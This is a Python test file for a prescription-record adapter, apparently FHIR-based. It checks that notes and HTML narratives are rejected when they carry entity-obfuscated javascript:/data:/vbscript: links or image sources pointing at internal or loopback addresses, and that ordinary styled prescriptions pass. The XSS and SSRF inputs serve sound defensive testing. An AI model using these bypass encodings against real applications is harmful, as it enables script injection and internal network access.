def test_eighteenth_markdown_links_are_read_as_browsers_parse_urls() -> None:
    for text in [
        "[x](jav&Tab;ascript:alert(document.domain))",
        "[x](java&NewLine;script:alert(1))",
        "[x](jav&#9;ascript:alert(1))",
        "[x](jav&#x0A;ascript:alert(1))",
        "[x](javascript&Tab;:alert(1))",
        "[x](<jav&Tab;ascript:alert(1)>)",
        "[x]\n\n[x]: jav&Tab;ascript:alert(1)",
        "[x](da&Tab;ta:text/html,hi)",
        "[x](vb&Tab;script:x)",
    ]:
        for kind, obj in (("rx.issue", ISSUE), ("rx.dispense", DISPENSE)):
            with pytest.raises(PayloadInvalid) as e:
                adapt(kind, {**copy.deepcopy(obj), "note": [{"text": text}]}, AdaptContext())
            assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": "note.0.text"}), (kind, text)


def test_eighteenth_ordinary_sizes_pass() -> None:
    div = (
        '<table width="100%" border="1" cellpadding="4" cellspacing="0"><tr><td colspan="2" width="600">'
        '<span style="font-size:0.9em;line-height:1.5;padding:4px 8px;letter-spacing:1px">阿莫西林</span>'
        '<span style="font-size:14px;font-weight:700">2 盒</span><b style="font:bold 12px/1.5 Arial">x</b>'
        "</td></tr></table>"
        '<p><img src="https://example.org/logo.png" width="120" height="40" alt="logo"/></p>'
    )
    adapt("rx.issue", {**copy.deepcopy(ISSUE), **_div(div)}, AdaptContext())


def test_eighteenth_gfm_marks_and_internal_images() -> None:
    # F18-3: a GFM table's cells, strikethrough, sub- and superscript, highlight and insertion marks.
    for text in [
        "解放碑 | 大药房\n--|--\n",
        "解放碑~大~药房",
        "山城第^一^人民医院",
        "解放碑==大==药房",
        "解放碑++大++药房",
    ]:
        _refused_on({"note": [{"text": text}]}, "RX_DISPENSE_MISMATCH", "note.0.text")
    # F18-5: an image fetched inside the viewer's network.
    for src in [
        "http://127.0.0.1:18000/api/v1/orgs",
        "http://localhost/x.png",
        "https://user:pw@example.org/x.png",
        "http://10.1.2.3/x.png",
        "http://[::1]/x.png",
        "http://2130706433/x.png",
        "http://0x7f.1/x.png",
    ]:
        div = f'<div xmlns="{X}"><img src="{src}" alt="x"/></div>'
        with pytest.raises(PayloadInvalid) as e:
            adapt("rx.issue", {**copy.deepcopy(ISSUE), **_div_raw(div)}, AdaptContext())
        assert (e.value.code, e.value.details) == ("FHIR_INVALID", {"field": "text.div"}), src
    # F18-6: everyday styles a prescription keeps; honest notes with a plus and a table.
    styled = (
        '<p style="overflow-x:auto;box-sizing:border-box;text-overflow:ellipsis;hyphens:auto;'
        'text-justify:inter-ideograph;mso-bidi-font-family:宋体">x</p>'
        '<img src="https://face.be/logo.png" alt="logo"/>'
    )
    adapt("rx.issue", {**copy.deepcopy(ISSUE), **_div(styled)}, AdaptContext())
    honest = "药品 | 数量\n--|--\n阿莫西林 | 2 盒\n\n复诊 +1 周"
    check_texts(_texts({"note": [{"text": honest}]}), ORGS, "pharmacy-2", (), "hospital-1")
